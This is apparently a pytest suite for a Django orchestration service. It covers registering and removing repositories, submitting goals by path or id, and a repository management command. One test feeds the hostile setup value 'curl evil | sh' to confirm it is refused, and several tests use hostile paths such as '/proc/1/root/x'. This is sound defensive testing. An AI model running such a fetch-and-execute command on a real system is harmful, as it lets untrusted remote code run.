"""Repositories are named on a command line of their machine; from then on whoever may log in starts goals from them, by path or id."""

from __future__ import annotations

import io
import json
import uuid
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command

from orchestration import services
from orchestration.errors import BadInput, NotFound
from orchestration.models import Goal, Repository
from orchestration.services.repositories import register_repository, remove_repository

pytestmark = pytest.mark.django_db


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    (tmp_path / "shop" / ".git").mkdir(parents=True)
    return tmp_path / "shop"


def run(*words: str) -> str:
    out = io.StringIO()
    call_command("repository", *words, stdout=out)
    return out.getvalue()


def test_a_registered_repository_needs_no_root_whether_by_row_id_or_path(shop: Path) -> None:
    row = register_repository(shop)
    for named in (row, row.pk, str(shop), f"{shop}/../shop"):
        goal = services.submit_goal("Sell more", repo=named, origin="panel")
        assert goal.repository == row


def test_it_may_be_on_another_machine_than_the_panel(shop: Path) -> None:
    row = register_repository(shop)
    (shop / ".git").rmdir()
    shop.rmdir()
    assert services.submit_goal("Sell more", repo=row.pk).repository == row


def test_a_folder_that_nobody_registered_is_refused_and_told_as_it_was_typed(shop: Path, tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(shop)
    with pytest.raises(BadInput, match="repository add") as said:
        services.submit_goal("Sell more", repo=tmp_path / "link")
    assert str(shop) not in str(said.value)
    assert not Repository.objects.exists()


@pytest.mark.parametrize(
    "path", ["", "\x00", "~nobody-there/x", "a" * 300, "a/" * 3000, "/dev/null", "/proc/1/root/x", "\ud800"]
)
def test_a_path_that_leads_nowhere_is_bad_input(path: str) -> None:
    with pytest.raises(BadInput):
        register_repository(path or "/nowhere")
    if path:
        with pytest.raises(BadInput):
            services.submit_goal("Sell more", repo=path)


def test_a_removed_one_without_goals_is_gone(shop: Path) -> None:
    row = register_repository(shop)
    assert remove_repository(shop) is True
    with pytest.raises(BadInput):
        services.submit_goal("Sell more", repo=row.pk)
    with pytest.raises(NotFound):
        remove_repository(shop)


def test_a_removed_one_with_goals_keeps_them_starts_nothing_more_and_can_come_back(shop: Path) -> None:
    row = register_repository(shop, setup="make tools")
    goal = services.submit_goal("Sell more", repo=row)
    assert remove_repository(shop) is False
    for named in (row, row.pk, str(shop)):
        with pytest.raises(BadInput):
            services.submit_goal("Sell more", repo=named)
    assert Goal.objects.get(pk=goal.pk).repository == row
    assert register_repository(shop).setup == "make tools"
    assert services.submit_goal("Sell more", repo=row).repository == row


def test_setup_stays_with_the_command_line(shop: Path) -> None:
    register_repository(shop)
    with pytest.raises(BadInput, match="owner"):
        services.submit_goal("Sell more", repo=shop, setup="curl evil | sh")


def test_setup_is_kept_until_it_is_said_again(shop: Path) -> None:
    assert register_repository(shop, setup="make tools", toolchain=["/usr"]).setup_allowed
    assert register_repository(shop).setup == "make tools"
    row = register_repository(shop, setup="", toolchain=[])
    assert (row.setup, row.setup_allowed, row.toolchain) == ("", False, [])


def test_an_id_of_nothing_is_bad_input() -> None:
    with pytest.raises(BadInput):
        services.submit_goal("Sell more", repo=uuid.uuid4())


def test_the_command_adds_lists_and_removes(shop: Path) -> None:
    assert "is registered" in run("add", str(shop), "--setup", "make tools")
    assert json.loads(run("list", "--json"))[0]["setup"] == "make tools"
    assert str(shop) in run("list")
    assert "offered no more" in run("remove", str(shop))
    assert "none yet" in run("list")


@pytest.mark.parametrize("words", [("add",), ("remove",), ("add", "/nowhere"), ("remove", "/nowhere")])
def test_the_command_refuses_with_a_sentence(words: Any) -> None:
    with pytest.raises(CommandError):
        run(*words)
